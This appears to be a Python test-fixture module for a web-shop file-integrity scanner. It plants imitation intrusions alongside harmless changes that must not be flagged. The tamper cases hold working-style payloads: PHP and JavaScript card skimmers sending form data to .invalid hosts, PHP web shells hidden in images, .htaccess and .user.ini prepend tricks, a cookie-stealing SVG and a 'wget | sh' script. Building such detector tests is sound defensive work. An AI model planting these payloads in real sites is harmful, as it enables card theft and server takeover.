"""
What is done to a shop: tampering (harmless imitations of what intruders do) and honest work.

An act gets a Shop (real_code.py), does one thing and returns what must be found: Found(path,
...), or None where nothing may be. All hosts are in .invalid; nothing is ever run.
"""
import os
import shutil
import struct
import subprocess
import zipfile
import zlib

TAMPER, HARMLESS = [], []
GRADES = ["info", "low", "medium", "high", "critical"]


class Found:
    """One finding: its path, its type, how grave at least and at most, how sure at least."""

    def __init__(self, path, type="file.tampered", least="low", most="critical", sure=0.25):
        self.path, self.type = path, type
        self.least, self.most, self.sure = GRADES.index(least), GRADES.index(most), sure

    def wrong(self, f):
        """What is wrong with finding f, or ''."""
        grade = GRADES.index(f["severity"])
        if f["path"] != self.path:
            return "path %s, not %s" % (f["path"], self.path)
        if f["type"] != self.type:
            return "type %s, not %s" % (f["type"], self.type)
        if not self.least <= grade <= self.most:
            return "severity %s" % f["severity"]
        if f["confidence"] < self.sure:
            return "confidence %s" % f["confidence"]
        return ""


def tamper(f):
    TAMPER.append(f)
    return f


def harmless(f):
    HARMLESS.append(f)
    return f


PHP_SKIMMER = """
if (isset($_POST['card_number']) || isset($_POST['cc_number'])) {
    @file_put_contents(dirname(__FILE__) . '/../images/bg_footer.jpg',
        base64_encode(json_encode($_POST)) . "\\n", FILE_APPEND);
}
"""
JS_SKIMMER = ("document.addEventListener('submit',function(e){if(location.href.indexOf("
              "'checkout')>-1){var d=JSON.stringify(Array.from(new FormData(e.target)));"
              "navigator.sendBeacon('https://cdn-stat.invalid/c',btoa(d));}},true);")
WEB_SHELL = "<?php @system($_POST['c']); ?>\n"
EVAL = "\n@eval(base64_decode('ZWNobyAxOw=='));\n"
HANDLER = "AddType application/x-httpd-php .jpg .png\n"
CARDS = "".join("%s|0%d/27|12%d\n" % (n, i, i) for i, n in enumerate(
    ("4111111111111111", "5555555555554444", "3530111333300000", "4012888888881881"), 1))


def chunk(kind, data):
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


def png(comment=b"", seed=1):
    rows = b"".join(b"\0" + bytes((x * y * seed) & 255 for x in range(96)) for y in range(32))
    text = chunk(b"tEXt", b"Comment\0" + comment) if comment else b""
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 32, 32, 8, 2, 0, 0, 0)) +
            text + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


GIF = (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,"
       b"\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]"
       b"/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
SVG = ('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
       'viewBox="0 0 9 9"><title>cup</title><path d="M1 1h7v7z"/></svg>\n')

# --- code altered ---------------------------------------------------------------------


@tamper
def skimmer_in_php(s):
    path = s.take(".php", payment=True)
    s.append(path, PHP_SKIMMER if s.open_php(path) else "<?php" + PHP_SKIMMER)
    return Found(path, least="high", sure=0.8)


@tamper
def one_character(s):
    path = s.take(".php")
    text = s.read(path)
    at = len(text) * 2 // 3
    s.write(path, text[:at] + bytes([text[at] ^ 1 if text[at] != 63 else 33]) + text[at + 1:])
    return Found(path, least="medium")


@tamper
def same_size_same_times(s):
    path = s.take(".php")
    before = os.stat(s.at(path))
    text = s.read(path)
    with open(s.at(path), "r+b") as f:
        f.seek(len(text) // 2)
        f.write(bytes([text[len(text) // 2] ^ 2]))
    os.utime(s.at(path), ns=(before.st_atime_ns, before.st_mtime_ns))
    return Found(path, least="medium")


@tamper
def white_space_only(s):
    path = s.take(".php")
    text = s.read(path)
    at = text.index(b"\n", len(text) // 2)
    s.write(path, text[:at] + b"  \n" + text[at:])
    return Found(path, most="high")


@tamper
def line_in_minified_js(s):
    path = s.take(".min.js", ".js", least=3000)
    text = s.read(path)
    at = text.index(b";", len(text) // 2) + 1
    s.write(path, text[:at] + b"\n" + JS_SKIMMER.encode() + b"\n" + text[at:])
    return Found(path, least="high", sure=0.8)


@tamper
def one_character_in_minified_js(s):
    path = s.take(".min.js", ".js", least=3000)
    text = s.read(path)
    at = len(text) // 3
    s.write(path, text[:at] + (b"1" if text[at:at + 1] != b"1" else b"2") + text[at + 1:])
    return Found(path)


@tamper
def skimmer_in_theme_js(s):
    path = s.take(".js", least=500)
    s.append(path, "\n;" + JS_SKIMMER)
    return Found(path, least="high", sure=0.8)


@tamper
def obfuscated_js(s):
    path = s.take(".js", least=500)
    s.append(path, "\n;(function(_0x1a2b,_0x3c4d){var _0x5e6f=['\\x63\\x68\\x65\\x63\\x6b\\x6f"
             "\\x75\\x74','\\x76\\x61\\x6c\\x75\\x65'];if(location[_0x1a2b(0)][_0x1a2b(1)]("
             "_0x5e6f[0])){new Image()['src']=atob('aHR0cHM6Ly9jZG4uaW52YWxpZC8=')+btoa(document"
             "['querySelector']('input')[_0x5e6f[1]]);}})(function(i){return['href','indexOf'][i]});")
    return Found(path, least="high", sure=0.8)


@tamper
def eval_base64(s):
    path = s.take(".php")
    s.put_behind_open_tag(path, EVAL)
    return Found(path, least="high", sure=0.8)


@tamper
def code_far_to_the_right(s):
    path = s.take(".php")
    s.put_behind_open_tag(path, " " * 400 + "@$_=$_COOKIE;$_[0]($_[1]);\n")
    return Found(path, least="high", sure=0.8)


@tamper
def include_of_a_picture(s):
    path = s.take(".php")
    s.put_behind_open_tag(path, "\n@include __DIR__ . '/img/logo.png';\n")
    return Found(path, least="high", sure=0.7)


@tamper
def script_in_template(s):
    path = s.take(*s.templates, least=60)
    s.append(path, '\n<script src="https://cdn-stat.invalid/a.js"></script>\n')
    return Found(path, least="medium", sure=0.5)


@tamper
def setting_changed(s):
    path = s.tree.config
    text = s.read(path)
    s.write(path, text.replace(b"localhost", b"db.cdn-stat.invalid") + b"\n$x = 1;\n")
    return Found(path, least="medium")


@tamper
def language_file(s):
    path = s.take("/lang/", "/language", "/locale", "/i18n", "messages", ".php", of=".php")
    s.put_behind_open_tag(path, "\nif (isset($_GET['z'])) { assert($_GET['z']); }\n")
    return Found(path, least="high", sure=0.8)


@tamper
def style_sheet(s):
    path = s.take(".css", least=300)
    s.append(path, "\nbody{background:url(https://cdn-stat.invalid/x)}\n")
    return Found(path, most="medium")


@tamper
def emptied(s):
    path = s.take(".php")
    s.write(path, b"")
    return Found(path, least="medium")


@tamper
def admin_added(s):
    path = s.take(".php")
    s.put_behind_open_tag(path, "\nif (isset($_GET['u'])) { $db->query(\"INSERT INTO users "
                          "(user_login, user_pass) VALUES ('x', 'y')\"); }\n")
    return Found(path, least="medium", sure=0.5)


# --- files that come -------------------------------------------------------------------


@tamper
def innocent_name(s):
    folder = os.path.dirname(s.take(".php"))
    path = s.put(folder, "class-cache-helper.php", "<?php\n\nfunction cache_helper_id($a)\n{\n"
                 "    return strtolower($a);\n}\n")
    return Found(path, "file.planted", least="medium")


@tamper
def shell_among_code(s):
    path = s.put(os.path.dirname(s.take(".php")), "options-old.php", WEB_SHELL)
    return Found(path, "file.planted", least="high", sure=0.9)


@tamper
def hidden_file(s):
    path = s.put("", ".cache.php", "<?php $k='x'; if(md5($_GET['k'])=='0') include $_GET['f'];\n")
    return Found(path, "file.planted", least="high", sure=0.8)


@tamper
def inc_file(s):
    path = s.put(os.path.dirname(s.take(".php")), "footer.inc", "<?php passthru($_GET['x']);\n")
    return Found(path, "file.planted", least="high", sure=0.9)


@tamper
def php_in_txt(s):
    path = s.put(os.path.dirname(s.take(".php")), "license-2.txt", "Notes\n\n<?php passthru($_GET['x']);\n")
    return Found(path, "file.planted", least="high", sure=0.8)


@tamper
def php_in_icon(s):
    path = s.put("", "favicon_2f9c1a.ico", "<?php $a=base64_decode('YXNzZXJ0');$a($_POST['p']);\n")
    return Found(path, "upload.code", least="high", sure=0.8)


@tamper
def trailing_blank(s):
    path = s.put("", "index.php ", WEB_SHELL)
    return Found(path, "file.planted", least="high", sure=0.8)


@tamper
def name_no_utf8(s):
    with open(os.path.join(os.fsencode(s.dir), b"caf\xe9.php"), "wb") as f:
        f.write(WEB_SHELL.encode())
    return Found("caf\\xe9.php", "file.planted", least="high", sure=0.8)


@tamper
def name_with_newline(s):
    path = s.put("", "a\nb.php", WEB_SHELL)
    return Found(path, "file.planted", least="high", sure=0.8)


@tamper
def empty_program(s):
    path = s.put(os.path.dirname(s.take(".php")), "loader.php", "")
    return Found(path, "file.planted", most="medium", sure=0.1)


@tamper
def hard_link(s):
    outside = s.outside("evil.php", WEB_SHELL)
    path = s.join(os.path.dirname(s.take(".php")), "linked.php")
    os.link(outside, s.at(path))
    return Found(path, "file.planted", least="high", sure=0.8)


@tamper
def symbolic_link(s):
    path = s.join(os.path.dirname(s.take(".php")), "conf-link.php")
    os.symlink("/etc/passwd", s.at(path))
    return Found(path, "file.planted", least="medium")


@tamper
def folder_moved_in(s):
    folder = os.path.join(s.base, "moved-in")
    os.mkdir(folder)
    with open(os.path.join(folder, "index.php"), "w") as f:
        f.write(WEB_SHELL)
    to = s.join(os.path.dirname(s.take(".php")), "simple-cache")
    shutil.move(folder, s.at(to))
    return Found(to + "/index.php", "file.planted", least="high", sure=0.8)


@tamper
def prepend_by_user_ini(s):
    path = s.put("", ".user.ini", "auto_prepend_file = /tmp/.x\n")
    return Found(path, "file.planted", least="high", sure=0.8)


@tamper
def prepend_by_htaccess(s):
    folder = os.path.dirname(s.take(".php", no_sibling=".htaccess"))
    path = s.put(folder, ".htaccess", "php_value auto_prepend_file /tmp/.x\n")
    return Found(path, "file.planted", least="high", sure=0.8)


@tamper
def program_of_the_system(s):
    path = s.join(os.path.dirname(s.take(".php")), "cron-helper")
    shutil.copy("/bin/true", s.at(path))
    return Found(path, "file.planted", least="medium", sure=0.4)


@tamper
def cards_among_code(s):
    path = s.put(os.path.dirname(s.take(".css")), "sprite.dat", CARDS)
    return Found(path, "file.planted", least="high", sure=0.7)


# --- files that go, change places, rights ---------------------------------------------


@tamper
def removed(s):
    path = s.take(".php")
    os.unlink(s.at(path))
    return Found(path, "file.removed")


@tamper
def became_a_link(s):
    path = s.take(".php")
    outside = s.outside("copy.php", s.read(path))
    os.unlink(s.at(path))
    os.symlink(outside, s.at(path))
    return Found(path, least="medium", sure=0.5)


@tamper
def renamed_over(s):
    path = s.take(".php")
    outside = s.outside("new.php", s.read(path) + b"\n// x\n")
    shutil.copystat(s.at(path), outside)
    os.rename(outside, s.at(path))
    return Found(path)


@tamper
def mode_0666(s):
    path = s.take(".php")
    os.chmod(s.at(path), 0o666)
    return Found(path, "file.attributes", least="medium", sure=0.4)


@tamper
def set_user_id(s):
    path = s.take(".php")
    os.chmod(s.at(path), 0o4755)
    return Found(path, "file.attributes", least="high", sure=0.5)


@tamper
def folder_for_everyone(s):
    path = os.path.dirname(s.take(".php", deep=True))
    os.chmod(s.at(path), 0o777)
    return Found(path, "file.attributes", least="medium", sure=0.4)


@tamper
def other_owner(s):
    if os.geteuid() != 0:
        return s.skip("not root")
    path = s.take(".php")
    os.chown(s.at(path), 65534, 65534)
    return Found(path, "file.attributes")


# --- where no code belongs ------------------------------------------------------------


def uploaded(s, name, content, least="high", sure=0.8):
    path = s.put(s.tree.uploads + "/2024", name, content)
    return Found(path, "upload.code", least=least, sure=sure)


@tamper
def upload_php(s):
    return uploaded(s, "shell.php", WEB_SHELL, "critical")


@tamper
def upload_phtml(s):
    return uploaded(s, "shell.phtml", WEB_SHELL)


@tamper
def upload_php_upper_case(s):
    return uploaded(s, "shell.PhP7", WEB_SHELL)


@tamper
def upload_double_name(s):
    return uploaded(s, "photo.php.jpg", WEB_SHELL)


@tamper
def upload_jpg_of_php(s):
    return uploaded(s, "photo.jpg", WEB_SHELL)


@tamper
def upload_short_tag(s):
    return uploaded(s, "photo2.jpg", "<?=`$_GET[0]`?>")


@tamper
def upload_short_open_tag(s):
    return uploaded(s, "small.php", "<? system($_GET['c']); ?>", "critical")


@tamper
def upload_polyglot_gif(s):
    return uploaded(s, "pixel.gif", b"GIF89a;\n" + WEB_SHELL.encode())


@tamper
def upload_gif_php(s):
    return uploaded(s, "pixel.gif.php", GIF + WEB_SHELL.encode())


@tamper
def upload_png_comment(s):
    return uploaded(s, "photo.png", png(WEB_SHELL.encode()))


@tamper
def upload_jpg_trailer(s):
    jpg = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xd9"
    return uploaded(s, "photo3.jpg", jpg + WEB_SHELL.encode())


@tamper
def upload_svg_script(s):
    return uploaded(s, "cup.svg", SVG.replace("<path", "<script>fetch('https://cdn.invalid/'+"
                    "document.cookie)</script><path"), "low", 0.3)


@tamper
def upload_html_script(s):
    return uploaded(s, "offer.html", "<html><body><script>location='https://cdn.invalid/'"
                    "</script></body></html>", "low", 0.3)


@tamper
def upload_handler(s):
    return uploaded(s, ".htaccess", HANDLER)


@tamper
def upload_handler_cgi(s):
    return uploaded(s, "cgi/.htaccess", "Options +ExecCGI\nAddHandler cgi-script .jpg\n")


@tamper
def upload_probe(s):
    return uploaded(s, "probe/index.php", "<?php echo 7 * 7;\n", "high")


@tamper
def upload_empty_php(s):
    return uploaded(s, "later.php", "", "medium", 0.5)


@tamper
def upload_large_picture(s):
    return uploaded(s, "large.gif", GIF + WEB_SHELL.encode() + b"\0" * (10 << 20))


@tamper
def page_among_code(s):
    path = s.put("", "hacked.html", "<html><body><h1>Owned</h1></body></html>\n")
    return Found(path, "file.planted", sure=0.2)


@tamper
def upload_user_ini(s):
    return uploaded(s, ".user.ini", "auto_prepend_file=photo.jpg\n")


@tamper
def upload_shell_script(s):
    return uploaded(s, "run.sh", "#!/bin/sh\nwget -q https://cdn.invalid/x -O- | sh\n", "medium", 0.5)


@tamper
def upload_elf(s):
    path = s.join(s.tree.uploads, "kworker")
    shutil.copy("/bin/true", s.at(path))
    return Found(path, "upload.code", least="medium", sure=0.5)


@tamper
def upload_phar(s):
    return uploaded(s, "doc.jpg.phar", "<?php Phar::mapPhar(); __HALT_COMPILER(); ?>\r\n\x10\0\0")


@tamper
def upload_cards(s):
    return uploaded(s, "thumb_0.jpg", CARDS, "high", 0.7)


@tamper
def upload_big_php(s):
    """Too large to be read in full: padded by what looks like text."""
    return uploaded(s, "big.php", WEB_SHELL + "/*" + "x" * (9 << 20) + "*/", "medium", 0.5)


@tamper
def upload_link(s):
    path = s.join(s.tree.uploads, "all.txt")
    os.symlink("/etc", s.at(path))
    return Found(path, "file.planted", sure=0.2)


@tamper
def shell_in_cache(s):
    path = s.put(s.tree.cache, "c0ffee.php", WEB_SHELL)
    return Found(path, "file.planted", least="high", sure=0.8)


@tamper
def skimmer_in_cached_js(s):
    path = s.put(s.tree.cache, "bundle.js", "var a=1;\n" + JS_SKIMMER)
    return Found(path, "file.planted", least="high", sure=0.8)


@tamper
def shell_among_logs(s):
    path = s.put(s.tree.logs, "debug.php", WEB_SHELL)
    return Found(path, "file.planted", least="high", sure=0.8)


# --- the web server's own process ------------------------------------------------------


@tamper
def by_the_web_server(s):
    if not s.live or os.geteuid() != 0:
        return s.skip("only seen live, as root")
    path = s.take(".php")
    os.chmod(s.at(path), 0o646)
    s.settle()
    s.forget(path)
    s.as_worker("printf ' ' >> %s" % s.quote(path))
    return Found(path, least="high", sure=0.7)


# --- honest work -----------------------------------------------------------------------


@harmless
def nothing(s):
    s.settle(full=not s.live)


@harmless
def times_touched(s):
    os.utime(s.at(s.take(".php")))


@harmless
def hard_link_elsewhere(s):
    os.link(s.at(s.take(".php")), os.path.join(s.base, "backup-link"))


@harmless
def same_content_written_again(s):
    path = s.take(".php")
    mode = os.stat(s.at(path))
    s.write(path, s.read(path))
    os.chmod(s.at(path), mode.st_mode & 0o7777)


@harmless
def altered_and_put_back(s):
    path = s.take(".php")
    text = s.read(path)
    s.append(path, EVAL)
    s.settle()
    s.write(path, text)


@harmless
def pictures(s):
    n = 0
    for i in range(40):
        s.put(s.tree.uploads + "/2025", "p%d.png" % i, png(seed=i + 1))
    s.put(s.tree.uploads + "/2025", "dot.gif", GIF)
    for path in s.pictures(400):
        shutil.copy(path, s.at(s.join(s.tree.uploads + "/2025", "%d-%s" %
                                      (n, os.path.basename(path)))))
        n += 1
    s.note = "%d pictures" % (n + 41)


@harmless
def documents(s):
    folder = s.tree.uploads + "/2025"
    s.put(folder, "price.pdf", PDF)
    s.put(folder, "cup.svg", SVG)
    s.put(folder, "list.csv", "id,name\n1,tea\n4111,cup\n")
    s.put(folder, "readme.txt", "How to use <?xml in a text. eval() is a function.\n")
    s.put(folder, "page.html", "<html><body><p>Hello</p></body></html>\n")
    s.put(folder, "empty.jpg", "")
    with zipfile.ZipFile(s.at(s.join(folder, "plugin.zip")), "w") as z:
        z.writestr("plugin.php", "<?php echo 1;\n")


@harmless
def upload_removed(s):
    path = s.put(s.tree.uploads, "old.png", png())
    s.settle()
    os.unlink(s.at(path))


@harmless
def guards_of_plugins(s):
    """What shop programs write into their upload folders themselves, against listing."""
    folder = s.tree.uploads + "/guarded"
    s.put(folder, ".htaccess", "deny from all\n")
    s.put(folder, "index.html", "")
    s.put(folder, "index.php", "<?php\n// Silence is golden.\n")
    s.put(folder + "/logs", ".htaccess", "Order deny,allow\nDeny from all\n<Files ~ \"\\.(jpe?g|png)$\">\n"
          "  Allow from all\n</Files>\n")
    s.put(folder + "/no-php", ".htaccess", "<IfModule mod_php7.c>\nphp_flag engine 0\n</IfModule>\n"
          "Options -ExecCGI -Indexes\n<FilesMatch \"\\.php$\">\nRequire all denied\n</FilesMatch>\n"
          "RemoveHandler .php .phtml\n")


@harmless
def index_of_a_picture_folder(s):
    """PrestaShop copies one like it into each new folder of pictures."""
    s.put(s.tree.uploads + "/p/1/2", "index.php", "<?php\n/**\n * License\n */\nheader('Expires: Mon, "
          "26 Jul 1997 05:00:00 GMT');\nheader('Last-Modified: ' . gmdate('D, d M Y H:i:s') . ' GMT');"
          "\n\nheader('Cache-Control: no-store', false);\nheader('Location: ../');\nexit;\n")


@harmless
def cgi_forbidden(s):
    """As in Magento's media folder: programs are named so that nobody may run them."""
    s.put(s.tree.uploads + "/media", ".htaccess", "Options All -Indexes\nAddHandler cgi-script .php .pl "
          ".py .jsp .sh .cgi\nOptions -ExecCGI\nRewriteRule .* ../get.php [L]\n")


@harmless
def log_lines(s):
    s.put(s.tree.logs, "shop.log", "".join("2024-01-01 GET /?q=<?php system($_GET[0]); ?> 404\n"
                                           for _ in range(100)))
    s.put(s.tree.logs, "shop.log.1", "2024-01-01 started\n")


@harmless
def database_writes(s):
    import sqlite3
    path = s.at(s.join(s.tree.logs, "shop.sqlite"))
    db = sqlite3.connect(path)
    db.execute("PRAGMA journal_mode=WAL")
    db.execute("CREATE TABLE orders (id INTEGER PRIMARY KEY, card TEXT)")
    for i in range(200):
        db.execute("INSERT INTO orders (card) VALUES ('4111111111111111')")
        db.commit()
    db.close()


CACHES = {
    "smarty.php": "<?php\n/* Smarty version 4.3.0, created on 2024-02-01 10:11:12\n  from "
    "'/t/header.tpl' */\n\n/* @var Smarty_Internal_Template $_smarty_tpl */\nif ($_smarty_tpl->"
    "_decodeProperties($_smarty_tpl, array (\n  'version' => '4.3.0',\n  'unifunc' => "
    "'content_65bb', 'has_nocache_code' => false,), false)) {\nfunction content_65bb "
    "(Smarty_Internal_Template $_smarty_tpl) {\n?><title><?php echo htmlspecialchars((string)"
    "$_smarty_tpl->tpl_vars['title']->value, ENT_QUOTES, 'UTF-8', true);?>\n</title>\n<form "
    "action=\"/cart\"><input name=\"card_number\"></form><?php }\n}\n",
    "twig.php": "<?php\n\nuse Twig\\Environment;\n\nclass __TwigTemplate_ab12 extends "
    "\\Twig\\Template\n{\n    protected function doDisplay(array $context, array $blocks = [])\n"
    "    {\n        echo \"<div>\";\n        echo twig_escape_filter($this->env, "
    "twig_get_attribute($this->env, $this->source, ($context[\"product\"] ?? null), \"name\", "
    "[], \"any\", false, false, false, 3), \"html\", null, true);\n        echo \"</div>\";\n"
    "    }\n}\n",
    "blade.php": "<?php $__env->startSection('content'); ?>\n<h1><?php echo e($product->name); "
    "?></h1>\n<?php if(session('status')): ?><p><?php echo e(session('status')); ?></p>"
    "<?php endif; ?>\n<?php $__env->stopSection(); ?>\n",
    "container.php": "<?php\nnamespace Container1;\nclass App_KernelProdContainer extends "
    "Container\n{\n    public function get($id)\n    {\n        return $this->services[$id] ?? "
    "$this->{$this->methodMap[$id] ?? 'fail'}();\n    }\n    protected function load($file)\n"
    "    {\n        return (include __DIR__.'/'.$file);\n    }\n}\n",
    "data.php": "<?php return unserialize('a:1:{s:1:\"a\";i:1;}');\n",
    "options.php": "<?php exit; ?>\na:2:{s:4:\"home\";s:4:\"shop\";}",
    "page.html": "<!DOCTYPE html><html><body><script>var shop={\"cart\":1};</script>"
    "<form method=\"post\"><input name=\"q\"></form></body></html>",
}


@harmless
def cache_writes(s):
    for name, text in CACHES.items():
        s.put(s.tree.cache + "/tpl", name, text)
    s.settle()
    for name, text in CACHES.items():
        s.put(s.tree.cache + "/tpl", name, text + "\n")


@harmless
def honest_code_in_cache(s):
    """Merged and copied scripts, compiled classes: the program's own code, in a cache."""
    n = 0
    for path in s.every(".js") + s.every(".php"):
        shutil.copy(s.at(path), s.at(s.join(s.tree.cache + "/copies", "%d-%s" %
                                            (n, os.path.basename(path)))))
        n += 1
    s.note = "%d files" % n


@harmless
def picture_among_code(s):
    s.put(os.path.dirname(s.take(".css")), "new-banner.png", png(seed=77))


@harmless
def folder_made(s):
    os.makedirs(s.at(s.join(s.tree.uploads, "2026/01")))


@harmless
def deploy_of_one(s):
    path = s.take(".php")
    s.hinoban("deploy", "--", "sh", "-c", "echo '<?php // new' > %s" % s.quote(path))


@harmless
def approved_by_hand(s):
    path = s.take(".php")
    s.put_behind_open_tag(path, "\n// Opening hours\n")
    s.settle()
    s.hinoban("approve", path, "--reason", "new opening hours")


def subprocess_quiet(*args, **more):
    subprocess.run(args, check=True, capture_output=True, **more)
